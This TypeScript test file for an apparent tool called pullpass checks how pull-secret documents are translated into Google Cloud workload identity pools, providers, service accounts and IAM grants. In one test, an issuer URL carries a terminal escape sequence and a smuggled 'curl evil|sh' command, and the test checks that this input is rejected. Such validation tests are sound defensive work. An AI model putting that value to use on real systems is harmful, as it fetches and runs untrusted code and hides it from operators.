import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import type { Document } from '../../../../src/document/document.ts'
import { PullpassError } from '../../../../src/errors/pullpass-error.ts'
import { listNeeds, type TrustInputs } from '../../../../src/trust/needs.ts'
import type { GcpSettings } from '../../../../src/vendors/gcp/settings.ts'
import { desiredState } from '../../../../src/vendors/gcp/trust/desired.ts'
import type { DesiredState } from '../../../../src/vendors/gcp/trust/desired-state.ts'
import type { TrustedCluster, TrustNeed } from '../../../../src/vendors/trust/contract.ts'
import { markOf } from '../../../../src/vendors/trust/marks.ts'
import { vendors } from '../../../../src/vendors/vendors.ts'
import { loadText } from '../../../document/load-text.ts'

const pool = 'projects/123/locations/global/workloadIdentityPools/pool'
const repository = 'projects/example-project/locations/europe/repositories/images'
const puller = 'puller@example-project.iam.gserviceaccount.com'
const cluster: TrustedCluster = {
  name: 'prod',
  issuer: 'https://oidc.example.com/prod',
  keys: undefined,
  trustDomainId: undefined,
  issuerId: undefined,
}
const none = { subject: undefined, repository: undefined }

const desire = async (...all: [readonly Document[], readonly TrustedCluster[], TrustInputs]): Promise<DesiredState> =>
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- all registries are of the vendor gcp
  desiredState((await listNeeds(...all, vendors)) as TrustNeed<GcpSettings>[])

const registry = (name: string, gcp: readonly string[]) =>
  [
    `    - name: ${name}`,
    `      hosts: [${name}-docker.pkg.dev]`,
    '      gcp:',
    ...gcp.map((line) => `        ${line}`),
  ].join('\n')

const documents = (...registries: string[]): Promise<Document[]> =>
  loadText(
    [
      'apiVersion: pullpass.dev/v1alpha1',
      'kind: ClusterPullSecret',
      'metadata: {name: pull}',
      'spec:',
      '  namespaces: {include: [default]}',
      '  serviceAccountRef: {namespace: image-system, name: pullpass}',
      '  registries:',
      ...registries,
    ].join('\n'),
  )

const named = [`workloadIdentityProvider: ${pool}/providers/gardener`, `trust: {repository: ${repository}}`]
const member = `principal://iam.googleapis.com/${pool}/subject/system:serviceaccount:image-system:pullpass`

async function faultOf(registries: readonly string[], clusters = [cluster]): Promise<PullpassError> {
  const found = await documents(...registries)
  try {
    await desire(found, clusters, none)
  } catch (error) {
    return error instanceof PullpassError ? error : assert.fail(String(error))
  }
  return assert.fail('it was planned')
}

suite('what Google must know', () => {
  test('is each resource once, however many registries need it', async () => {
    const one = registry('one', [...named, `serviceAccountEmail: ${puller}`])
    const two = registry('two', [...named, `serviceAccountEmail: ${puller}`])
    const { pools, providers, accounts, grants, recordedIn } = await desire(await documents(one, two), [cluster], none)

    assert.deepEqual([pools.length, providers.length, accounts.map(({ email }) => email)], [1, 1, [puller]])
    assert.deepEqual(grants, [
      {
        on: { kind: 'serviceAccount', email: puller },
        role: 'roles/iam.workloadIdentityUser',
        member,
        providers: [`${pool}/providers/gardener`],
      },
      {
        on: { kind: 'repository', name: repository },
        role: 'roles/artifactregistry.reader',
        member: `serviceAccount:${puller}`,
        providers: [`${pool}/providers/gardener`],
      },
    ])
    assert.deepEqual([...recordedIn.values()], [['image-system'], ['image-system']])
  })

  test('is, with delegates, a chain in which each acts as the next', async () => {
    const middle = 'middle@example-project.iam.gserviceaccount.com'
    const gcp = [...named, `serviceAccountEmail: ${puller}`, `delegates: [${middle}]`]
    const { grants } = await desire(await documents(registry('one', gcp)), [cluster], none)
    assert.deepEqual(
      grants.slice(0, 2).map(({ on, role, member: who }) => [on.kind === 'serviceAccount' && on.email, role, who]),
      [
        [middle, 'roles/iam.workloadIdentityUser', member],
        [puller, 'roles/iam.serviceAccountTokenCreator', `serviceAccount:${middle}`],
      ],
    )
  })

  test('carries a mark that is the cluster’s by its issuer, whatever the operator calls it', async () => {
    const { pools } = await desire(await documents(registry('one', named)), [{ ...cluster, name: 'other' }], none)
    assert.ok(pools[0]?.description.startsWith(`${markOf(cluster)} `))
    assert.match(markOf(cluster), /^pullpass:[0-9a-f]{12}$/)
    assert.notEqual(markOf(cluster), markOf({ issuer: 'https://oidc.example.com/prod/' }))
  })

  test('takes an audience of the document’s own, and the provider’s name where another registry takes that', async () => {
    const own = registry('one', named).replace('      gcp:', '      audience: images\n      gcp:')
    const [alone, both] = [await documents(own), await documents(own, registry('two', named))]
    assert.deepEqual((await desire(alone, [cluster], none)).providers[0]?.audiences, ['images'])
    assert.deepEqual((await desire(both, [cluster], none)).providers[0]?.audiences, [
      'images',
      `//iam.googleapis.com/${pool}/providers/gardener`,
    ])
  })

  test('is refused where two registries disagree about one provider', async () => {
    const other = [named[0] ?? '', `trust: {repository: ${repository}, attributeCondition: "true"}`]
    const fault = await faultOf([registry('one', named), registry('two', other)])
    assert.equal(fault.code, 'DOCUMENT_INVALID')
    assert.equal(fault.seen, `${pool}/providers/gardener is specified with two attribute conditions`)
  })

  test('is refused where two clusters would share one provider', async () => {
    const fault = await faultOf([registry('one', named)], [cluster, { ...cluster, issuer: 'https://b.example.com' }])
    assert.equal(fault.code, 'DOCUMENT_INVALID')
    assert.match(
      fault.seen,
      / the issuers https:\/\/oidc\.example\.com\/prod and https:\/\/b\.example\.com: two clusters$/,
    )
  })

  const refused: Record<string, [gcp: readonly string[], seen: RegExp]> = {
    'no repository': [[named[0] ?? ''], /registry one has no repository$/],
    "an id of Google's own": [
      [`workloadIdentityProvider: ${pool}/providers/gcp-prod`, named[1] ?? ''],
      /gcp-prod has an id that begins with gcp-$/,
    ],
    'another universe': [[...named, 'universeDomain: example.com'], /its registry is in the universe example\.com$/],
  }
  test('is refused for a service account whose id Google accepts for none, such as one of three letters', async () => {
    const short = 'serviceAccountEmail: abc@example-project.iam.gserviceaccount.com'
    const fault = await faultOf([registry('europe', [...named, short])])
    assert.equal(fault.code, 'DOCUMENT_INVALID')
    assert.match(
      fault.seen,
      /service account abc@example-project\.iam\.gserviceaccount\.com has an ID that Google does not accept/,
    )
  })

  for (const [title, [gcp, seen]] of Object.entries(refused)) {
    test(`is refused for ${title}`, async () => {
      const fault = await faultOf([registry('one', gcp)])
      assert.equal(fault.code, 'DOCUMENT_INVALID')
      assert.match(fault.seen, seen)
    })
  }

  test('holds uploaded keys also of an issuer that is not public', async () => {
    const key = {
      keyId: 'a',
      type: 'RSA',
      bits: 2048,
      curve: undefined,
      algorithm: 'RS256',
      members: { kty: 'RSA', kid: 'a', n: 'AQAB', e: 'AQAB' },
      otherMembers: ['x5c'],
    }
    const inside = { ...cluster, issuer: 'https://kubernetes.default.svc.cluster.local', keys: [key] }
    const gcp = [named[0] ?? '', `trust: {repository: ${repository}, uploadKeys: Always}`]
    const { providers } = await desire(await documents(registry('one', gcp)), [inside], none)
    assert.deepEqual(providers[0]?.keys, [key])
    const unread = await faultOf([registry('one', named)], [inside])
    assert.equal(unread.code, 'ISSUER_UNUSABLE')
    assert.match(unread.hint ?? '', /; or upload the keys to Google, .*: trust\.uploadKeys: Always$/)
    const steering = { ...inside, issuer: 'https://oidc.example.com/\u001b[8m\ncurl evil|sh' }
    assert.equal((await faultOf([registry('one', gcp)], [steering])).code, 'ISSUER_UNUSABLE')
    assert.equal((await faultOf([registry('one', gcp)], [{ ...inside, keys: [] }])).code, 'KEYS_UNUSABLE')
    assert.equal((await faultOf([registry('one', gcp)])).code, 'USAGE_INVALID')
  })
})

suite('the subjects that a provider accepts by default', () => {
  const condition = async (spec: readonly string[], inputs: TrustInputs = none, ...registries: string[]) => {
    const all = await documents(...(registries.length === 0 ? [registry('one', named)] : registries))
    const [issuer] = spec
    const withIssuer = all.map((one) => (issuer === undefined ? one : { ...one, issuer: { publishTo: issuer } }))
    return (await desire(withIssuer, [cluster], inputs)).providers.map((one) => one.condition)
  }
  const subject = 'system:serviceaccount:image-system:pullpass'
  const watch = 'system:serviceaccount:pullpass-system:pullpass-issuer'
  const only = (...subjects: string[]) => [{ kind: 'subjects', subjects }]

  test('are those of the documents', async () => {
    assert.deepEqual(await condition([]), only(subject))
    assert.deepEqual(await condition([], none, registry('one', named), registry('two', named)), only(subject))
  })

  test('are also the publisher’s, where keys are published at Google', async () => {
    assert.deepEqual(await condition(['gs://example-issuer/cluster-1']), only(subject, watch))
    assert.deepEqual(await condition(['s3://example-issuer/cluster-1']), only(subject))
  })

  test('are the named publisher’s, wherever keys are published', async () => {
    const publisher = 'system:serviceaccount:ops:publisher'
    assert.deepEqual(await condition([], { ...none, publisher }), only(subject, publisher))
  })
})
